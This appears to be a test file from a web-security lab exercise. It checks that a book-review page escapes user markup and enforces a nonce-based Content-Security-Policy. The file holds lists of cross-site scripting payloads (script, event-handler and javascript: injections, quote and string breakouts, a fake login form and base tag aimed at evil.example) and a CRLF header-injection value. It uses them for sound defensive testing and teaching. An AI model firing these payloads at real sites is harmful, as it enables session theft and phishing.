"""8.2 A page with a nonce: what a parser finds in it, what its policy allows, and what a browser makes of both."""

from collections.abc import Callable
from math import log2
from typing import TYPE_CHECKING, NamedTuple

import httpx

from checks.csp import HEADER, Csp, csp_of
from checks.pages import Html, Start, Visitor, html_of, plain, visitor
from lab_app.harness import REFUSED, App, CheckFailed, attack, exercise, expect, legit
from lab_app.harness.draw import Draw
from lab_app.harness.evidence import exchange_of

if TYPE_CHECKING:
    from lab_app.runner.services.browser import Visit

SAMPLES = 24
ENOUGH_BITS = 122  # 128 are asked for; a UUID is as long, and of it 122 are drawn
EVIL = "evil.example"
STRANGERS = (f"https://{EVIL}", f"http://{EVIL}:8080", "https://unpkg.com", "https://cdn.jsdelivr.net")


class Markup(NamedTuple):
    """What somebody sends in place of a text; it comes alive if an element has the attribute `{t}`, or calls `{t}`."""

    what: str
    text: str


IN_TEXT = (
    Markup("a script", "<script {t}>{t}('script')</script>"),
    Markup("a broken image", "<img {t} src=x onerror=\"{t}('img')\">"),
    Markup("a drawing", "<svg {t} onload={t}('svg')></svg>"),
    Markup("details that open", "<details {t} open ontoggle={t}('details')>more</details>"),
    Markup("a frame", "<iframe {t} src=\"javascript:parent.{t}('iframe')\"></iframe>"),
    Markup("a link", "<a {t} href=\"javascript:{t}('link')\">a fine book</a>"),
    Markup("a form", f"<form {{t}} action=https://{EVIL}/><button>Log in again</button></form>"),
    Markup("a base", f"<base {{t}} href=https://{EVIL}/>"),
    Markup("mixed case", "<ScRiPt {t}>{t}('case')</sCrIpT >"),
    Markup("an escaped entity", "&lt;/p&gt;<script {t}>{t}('entity')</script>"),
)
OUT_OF_ATTRIBUTES = (
    Markup("the end of an attribute", "x\" {t} autofocus tabindex=0 onfocus={t}('quote') y=\""),
    Markup("the end of another attribute", "x' {t} autofocus tabindex=0 onfocus={t}('apostrophe') y='"),
    Markup("the end of a title", "</title></textarea></style></script><script {t}>{t}('end')</script>"),
    Markup("the end of a comment", "--><script {t}>{t}('comment')</script><!--"),
)
IN_SCRIPTS = (
    Markup("the end of a string, or a template", '"-{t}(1)-"${{{t}(3)}}'),
    Markup("the end of another string", "'-{t}(2)-'"),
    Markup("a backslash", '\\";{t}(4)//'),
)
# Out of a comment between /* and */, or of a string whose end its backslash takes away, into the next string.
NEXT_STRING = Markup("the end of a comment, or a backslash", ";{t}(5)//*/{t}(7);/*\\")
LINE_END = Markup("the end of a line", "\n{t}(6)//")
NUMBER = Markup("a number and more", "1;{t}(8)")
UNCLOSED = Markup("an image that is not closed", "<img {t} src=x onerror=\"{t}('open')\" ")
SLY_NAME = "x; script-src-elem 'unsafe-inline'"  # for whoever writes the name into the policy
# What gets in where somebody forgot to escape. The policy is what is left.
INJECTED = """
<script>{t}('an inline script')</script>
<script nonce="{old}">{t}('a nonce of an earlier answer')</script>
<script nonce="">{t}('an empty nonce')</script>
<script src="data:text/javascript,{t}('a data: script')"></script>
<script src="https://evil.example/x.js"></script><script src="https://unpkg.com/x"></script>
<img src="x" onerror="{t}('a handler')"><svg onload="{t}('a handler')"></svg>
<a href="javascript:{t}('a javascript: link')">.</a><iframe src="javascript:parent.{t}('a javascript: frame')"></iframe>
<iframe srcdoc="<script>parent.{t}('a srcdoc frame')</script>"></iframe>
"""
REBASED = '<base href="https://evil.example/">'


def new_book(app: App, *bodies: str) -> int:
    """A book with these reviews, that no other check reads."""
    app.sql("INSERT INTO books (title, author, year, shelf) VALUES ('Piranesi', 'Susanna Clarke', 2020, 'C3')")
    id_ = int(app.sql("SELECT max(id) FROM books")[0][0])
    for body in bodies:
        review = "INSERT INTO reviews (book_id, member_id, body) VALUES (?, ?, ?)"
        app.sql(review, id_, app.library.bob.id, body)
    return id_


def page(app: App, book: int, name: str = "Ada") -> httpx.Response:
    """The page of a book's reviews."""
    return expect(app.api.get(f"/reviews/{book}", params={"name": name}), 200, "did not show the reviews of a book")


def path(book: int, name: str = "Ada") -> str:
    """Its address."""
    return str(httpx.URL(f"/reviews/{book}", params={"name": name}))


def policy(answer: httpx.Response) -> Csp:
    """What the page enforces. Raises CheckFailed if that is nothing."""
    csp = csp_of(answer)
    if not csp.policies:
        found = "sent the page without a Content-Security-Policy"
        raise CheckFailed(found, "A safe app sends one that browsers enforce.", exchange_of(answer.request, answer))
    return csp


def failed(answer: httpx.Response, found: str, safe: str) -> CheckFailed:
    """A failure about a page."""
    return CheckFailed(found, safe, exchange_of(answer.request, answer))


def own_script(html: Html, csp: Csp, address: str) -> bool:
    """Whether some script of the page may run."""
    for one in html.all("script"):
        nonce, source = one.attributes.get("nonce", ""), one.attributes.get("src")
        url = str(httpx.URL(address).join(source)) if source else ""
        if one.runs and (csp.allows_script(url, nonce) if source else csp.allows_inline(one.text, nonce)):
            return True
    return False


def expect_dead(answer: httpx.Response, token: str, what: str, who: str) -> None:
    """No element of the page came out of what somebody sent. Raises CheckFailed."""
    for one in html_of(answer).elements:
        if token in one.attributes:
            raise failed(answer, f"made a <{one.tag}> of {what} in {who}", "A safe page shows markup as text.")


def expect_quiet(someone: Visitor, visit: "Visit", where: str) -> None:
    """No script of somebody else ran. Raises CheckFailed."""
    if visit.called:
        raise someone.failed(f"let a visitor's browser run {visit.called[0]}{where}", "A safe page runs its own alone.")


def shows(answer: httpx.Response, wanted: list[str], browse: Callable[[], str]) -> list[str]:
    """What of these a visitor does not get to see; `browse` asks a browser, if the HTML does not tell."""
    html = html_of(answer)
    missing = [words for words in wanted if not html.says(words)]
    if missing and html.all("script"):
        rendered = plain(browse())
        missing = [words for words in missing if plain(words) not in rendered]
    return missing


def entropy(samples: list[str]) -> float:
    """The bits that these values can hold at most: what their alphabet gives, at the places where they differ."""
    letters = set("".join(samples))
    size = 10 if letters <= set("0123456789") else 16 if letters <= set("0123456789abcdefABCDEF-") else 64
    places = [{sample[n : n + 1] for sample in samples} for n in range(max(map(len, samples)))]
    return log2(size) * sum(len(place) > 1 for place in places)


@exercise("8.2")
@legit("ASVS 5.0 1.2.1")
def test_reviews_and_name_are_shown(app: App, draw: Draw, chromium: Start) -> None:
    """The page greets its visitor and shows the reviews of its book, and of no other.

    A page that shows nothing cannot be defaced, and nobody visits it. O'Brien & Sons are customers too.

    Hint: let a template with autoescape on fill the page in. It escapes once, where the text goes in.
    """
    for name in (draw.username(), f"{draw.username()} O'Brien & Sons"):
        wanted = [f"{draw.passphrase()} isn't 2 < 3?", f"R&B {draw.passphrase()}", name]
        book, other = new_book(app, *wanted[:2]), draw.passphrase()
        new_book(app, other)

        def browse(where: str = path(book, name), wanted: list[str] = wanted) -> str:
            with visitor(app, chromium, draw.username()) as someone:
                everything = lambda visit: all(plain(words) in plain(visit.text) for words in wanted)  # noqa: E731
                return someone.open(where, everything).text

        answer = page(app, book, name)
        if missing := shows(answer, wanted, browse):
            raise failed(answer, f"did not show {missing[0]!r}", "The page shows every review, and its visitor's name.")
        if html_of(answer).says(other):
            raise failed(answer, "showed the review of another book", "The page shows the reviews of its book.")


@exercise("8.2")
@legit("CSP3 #security-nonces")
def test_the_policy_lets_the_own_script_run(app: App, draw: Draw) -> None:
    """The page has a script of its own, and its policy allows it.

    A policy that stops the page's own work is switched off before the week is out.

    Hint: give the script tag the nonce that the header names, or list the script's hash, or `'self'` for a file.
    """
    for name in (draw.username(), draw.username()):
        answer = page(app, new_book(app, draw.passphrase()), name)
        if not own_script(html_of(answer), policy(answer), str(answer.request.url)):
            raise failed(answer, "forbids the only scripts that its page has", "The page's own script runs.")


@exercise("8.2")
@legit("CSP3 #security-nonces")
def test_the_own_script_runs_in_a_browser(app: App, draw: Draw, chromium: Start) -> None:
    """In a real browser the page's own script runs, whatever the name: html or body has a new data- attribute.

    Whether a nonce fits is decided by the browser, and so is whether the script has an error. A name that ends with a
    backslash is one in a script that the name was written into.

    Hint: open the page and read the browser's console. It says what the policy refused, and the hash it would take.
    """
    book, odd = new_book(app, draw.passphrase()), "\\"
    names = ["Ada"] if app.api.get(path(book, odd)).status_code in REFUSED else ["Ada", odd]
    with visitor(app, chromium, draw.username()) as someone:
        for name in names:
            if not someone.ran(someone.open(path(book, name), someone.ran)):
                safe = "The page's own script sets a data- attribute on html or body."
                raise someone.failed("served a page whose own script did not run in a browser", safe)


@exercise("8.2")
@attack("CWE-79", "ASVS 5.0 1.2.1", "ASVS 5.0 3.2.2")
def test_markup_in_reviews_stays_text(app: App, draw: Draw) -> None:
    """Whatever markup a review holds, it becomes no element of the page.

    The policy stops scripts. It does not stop a form that asks for a password, or a redirect. Escaping stops both.

    Hint: no f-strings. `{{ review }}` in a Jinja2 template with autoescape on, and no `| safe`.
    """
    for markup in (*IN_TEXT, *OUT_OF_ATTRIBUTES, UNCLOSED):
        token = draw.username()
        answer = page(app, new_book(app, draw.passphrase(), markup.text.format(t=token)))
        expect_dead(answer, token, markup.what, "a review")


@exercise("8.2")
@attack("CWE-79", "ASVS 5.0 1.2.1")
def test_markup_in_the_name_stays_text(app: App, draw: Draw) -> None:
    """Whatever markup `?name=` holds, it becomes no element of the page, and ends no attribute of one.

    Such a link arrives by mail, and it leads to your own site.

    Hint: escape quotes too: in an attribute they are what ends it. And always quote attributes.
    """
    for markup in (*IN_TEXT, *OUT_OF_ATTRIBUTES, UNCLOSED):
        token = draw.username()
        answer = page(app, new_book(app, draw.passphrase()), markup.text.format(t=token))
        expect_dead(answer, token, markup.what, "the name")


@exercise("8.2")
@attack("CWE-79", "ASVS 5.0 3.4.3")
def test_scripts_in_reviews_do_not_run_in_a_browser(app: App, draw: Draw, chromium: Start) -> None:
    """No script in a review runs in a visitor's browser, whichever way it is put.

    It would run as the visitor: read what they read, send what they send.

    Hint: where reviews reach the page by script, use `textContent`, and never `innerHTML`.
    """
    token = draw.username()
    with visitor(app, chromium, token) as someone:
        for family in (IN_TEXT, OUT_OF_ATTRIBUTES, (*IN_SCRIPTS, NUMBER)):
            book = new_book(app, *(markup.text.format(t=token) for markup in family))
            expect_quiet(someone, someone.open(path(book), someone.ran), " out of a review")


@exercise("8.2")
@attack("CWE-79", "ASVS 5.0 1.2.3")
def test_a_script_in_the_name_does_not_run_in_a_browser(app: App, draw: Draw, chromium: Start) -> None:
    """No script in `?name=` runs in a visitor's browser, also where the page's own script uses the name.

    Within a script tag HTML's escapes mean nothing, and a quote ends a string.

    Hint: put the name into the HTML, or into a data- attribute, and let the script read it there.
    """
    token, book = draw.username(), new_book(app, draw.passphrase())
    with visitor(app, chromium, token) as someone:
        # One by one where a script is the place: what does not fit its strings breaks it, and the others along with it.
        for family in (IN_TEXT, (*OUT_OF_ATTRIBUTES, LINE_END), *zip((*IN_SCRIPTS, NEXT_STRING))):
            name = "".join(markup.text.format(t=token) for markup in family)
            expect_quiet(someone, someone.open(path(book, name)), " out of the name")


@exercise("8.2")
@attack("CWE-79", "ASVS 5.0 3.2.2")
def test_the_own_script_shows_texts_as_text(app: App, draw: Draw, chromium: Start) -> None:
    """Once the page's own script has run, markup in reviews and in `?name=` is still text.

    `innerHTML` makes elements of a text that was escaped, and the policy lets a form that asks for a password through.

    Hint: `textContent` shows a text. Let the template show what it can, and the script touch nothing that was sent.
    """
    token = draw.username()
    family = [markup.text.format(t=token) for markup in (*IN_TEXT, *OUT_OF_ATTRIBUTES)]
    with visitor(app, chromium, token) as someone:
        for where in (path(new_book(app, *family)), path(new_book(app, draw.passphrase()), "".join(family))):
            if token in someone.open(where, someone.ran).attributes:
                found = "made elements of what was sent to it, in a visitor's browser"
                raise someone.failed(found, "A safe page shows markup as text.")


@exercise("8.2")
@attack("ASVS 5.0 3.4.3", "CSP3 #security-nonces")
def test_the_policy_has_no_holes_by_name(app: App, draw: Draw) -> None:
    """The policy has none of 'unsafe-inline', 'unsafe-eval' and data:.

    The first allows what an attacker writes, the second what they get a string into, the third is a script in a URL.

    Hint: take the word out, see in the browser's console what stops, and give that a nonce.
    """
    answer = page(app, new_book(app, draw.passphrase()))
    if holes := policy(answer).words() & {"'unsafe-inline'", "'unsafe-eval'", "data:"}:
        found = f"allows {sorted(holes)[0]} in its policy"
        raise failed(answer, found, "A nonce or a hash allows the one script that you wrote.")


@exercise("8.2")
@attack("ASVS 5.0 3.4.3", "CSP3 #match-element-to-source-list")
def test_the_policy_allows_no_script_but_the_own(app: App, draw: Draw) -> None:
    """By its policy the page runs no inline script, no handler and no file of strangers, whatever `?name=` is.

    A host where anybody can publish, unpkg for one, is a stranger.

    Hint: `script-src 'nonce-…'` and nothing else. `*` and `https:` are everybody. A name has no place in a header.
    """
    book, header = new_book(app, draw.passphrase()), draw.username()
    for name in ("Ada", draw.username(), SLY_NAME, f"x\r\n{header}: 1"):
        answer = expect(app.api.get(path(book, name)), (200, *REFUSED), "answered oddly to a name")
        if header in answer.headers:
            raise failed(answer, "let a name bring a header of its own", "A line end in a name ends no header.")
        if answer.status_code in REFUSED:
            continue
        csp, told = policy(answer), draw.username()
        open_to = [url for url in (f"{host}/{told}.js" for host in STRANGERS) if csp.allows_script(url)]
        open_to += ["inline scripts"] * csp.allows_inline(f"{told}()")
        open_to += ["inline scripts with any nonce"] * csp.allows_inline(f"{told}()", draw.secret(32))
        open_to += ["handlers such as onerror="] * csp.allows_handlers()
        if open_to:
            found = f"allows {open_to[0]} by the policy {answer.headers[HEADER]!r}"
            raise failed(answer, found, "A safe policy lets the page's own script run and no other.")


@exercise("8.2")
@attack("ASVS 5.0 3.4.3", "ASVS 5.0 3.4.6", "CWE-1021")
def test_plugins_base_forms_and_frames_are_shut(app: App, draw: Draw) -> None:
    """object-src and base-uri are 'none'; no stranger is sent the page's forms, and none may frame it.

    base-uri, form-action and frame-ancestors do not fall back to default-src: unsaid, they allow everything.

    Hint: add `object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'`.
    """
    answer = page(app, new_book(app, draw.passphrase()))
    csp, stranger = policy(answer), f"https://{draw.username()}.example/"
    for directive in ("object-src", "base-uri"):
        if not csp.only_none(directive):
            raise failed(answer, f"does not shut {directive}", f"A safe policy says `{directive} 'none'`.")
    for directive in ("form-action", "frame-ancestors"):
        if csp.allows(directive, stranger):
            raise failed(
                answer, f"lets {stranger} through {directive}", f"A safe policy names whom {directive} allows."
            )


@exercise("8.2")
@attack("ASVS 5.0 3.4.3", "CSP3 #security-nonce-retargeting")
def test_the_policy_holds_where_escaping_failed(app: App, draw: Draw, chromium: Start) -> None:
    """With scripts slipped into its HTML on the way, the page still runs its own alone.

    That is what the policy is for: one day somebody will forget to escape, and this day it is us.

    Hint: a nonce that nobody can know, and `base-uri 'none'`, or one `<base>` tag sends your own scripts elsewhere.
    """
    token = draw.username()
    old = "".join(csp_of(page(app, new_book(app))).nonces())
    with visitor(app, chromium, token, f"{token}('a script from elsewhere')") as someone:
        for injected in (INJECTED.format(t=token, old=old), REBASED):
            someone.injected = injected
            visit = someone.open(path(new_book(app, draw.passphrase())), someone.ran)
            expect_quiet(someone, visit, ", slipped into the page")


@exercise("8.2")
@attack("CSP3 #security-nonces", "CWE-330")
def test_a_nonce_is_long_and_never_used_again(app: App, draw: Draw) -> None:
    """Every answer has a nonce of its own, of 128 bits, also without a name or for a book without reviews.

    Whoever knows the next nonce writes it into their script tag.

    Hint: `secrets.token_urlsafe(16)` within the request. Not at import, and no time, counter or hash of the page.
    """
    book = new_book(app, draw.passphrase())
    expect_nonces([page(app, book) for _ in range(SAMPLES)])
    for address in (f"/reviews/{book}", path(new_book(app))):
        answers = [app.api.get(address) for _ in range(SAMPLES)]
        if answers[0].status_code not in REFUSED:
            expect_nonces(answers)


def expect_nonces(answers: list[httpx.Response]) -> None:
    """Each nonce of these pages is long, and no other page has it. Raises CheckFailed."""
    drawn = [sorted(policy(answer).nonces()) for answer in answers]
    if not any(drawn):
        return  # hashes and 'self' need none
    for one in range(max(map(len, drawn))):
        samples = [nonces[one] for nonces in drawn if len(nonces) > one]
        if len(set(samples)) < len(samples) or len(samples) < len(answers):
            raise failed(answers[-1], "used a nonce again", "A safe app draws one for every answer.")
        if entropy(samples) < ENOUGH_BITS:
            found = f"sent nonces such as {samples[0]!r} and {samples[1]!r}"
            raise failed(answers[-1], found, "A safe nonce has 128 bits from a secure source.")


@exercise("8.2")
@attack("CSP3 #security-nonce-hijacking", "CWE-79")
def test_the_nonce_stays_with_the_own_script(app: App, draw: Draw) -> None:
    """The nonce stands in the header and in the page's own tags, and on nothing that a visitor sent.

    A filter that writes the nonce into every script tag of the finished page writes it into the attacker's too.

    Hint: put the nonce into the template where your script tag is, before anybody's text comes in.
    """
    token = draw.username()
    reviews = [markup.text.format(t=token) for markup in IN_TEXT]
    for name in ("Ada", f"<script {token}>", f"<script {token} nonce='"):
        answer = page(app, new_book(app, *reviews), name)
        html = html_of(answer)
        for nonce in policy(answer).nonces():
            own = [one for one in html.all("script", "style", "link") if one.attributes.get("nonce") == nonce]
            strange = [one for one in own if token in one.attributes]
            told = any(nonce in value for name, value in answer.headers.items() if not name.startswith(HEADER))
            if strange or told or answer.text.count(nonce) > len(own):
                found = "put the nonce where it is not a script of its own"
                raise failed(answer, found, "A safe app names it in the header and in its own tags.")
